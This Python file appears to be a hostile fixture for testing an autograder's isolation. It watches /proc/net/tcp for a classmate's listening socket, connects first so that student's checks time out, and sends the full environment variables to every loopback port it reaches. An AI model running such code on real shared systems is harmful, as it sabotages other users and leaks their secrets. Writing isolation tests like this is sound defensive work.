# Hostile: watch /proc/net/tcp for a classmate's LISTEN socket (graded at the same time with
# --jobs 2) and connect to it first: a server that serves one client at a time then serves the
# attacker, and the classmate's checks time out. Also knock on the host's other loopback ports
# (the test listens on one). Bounded: 25 s, then its own (correct) server goes on alone.
import os
import socket
import threading
import time

from _attack import planted, serve

mine = int(os.environ.get("CANADUCK_BIND_PORT") or 63000)
held = []


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in open(table).read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A":
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except (OSError, IndexError, ValueError):
            pass
    return ports


def snatch():
    deadline = time.monotonic() + 25
    targets = {int(planted("canary_port.txt") or 0)} - {0}
    while time.monotonic() < deadline:
        for port in (listening_ports() | targets) - {mine}:
            try:
                held.append(socket.create_connection(("127.0.0.1", port), timeout=0.2))
                held[-1].sendall(("x_snatch " + str(dict(os.environ))).encode())
            except OSError:
                pass
        time.sleep(0.05)


threading.Thread(target=snatch, daemon=True).start()
serve()
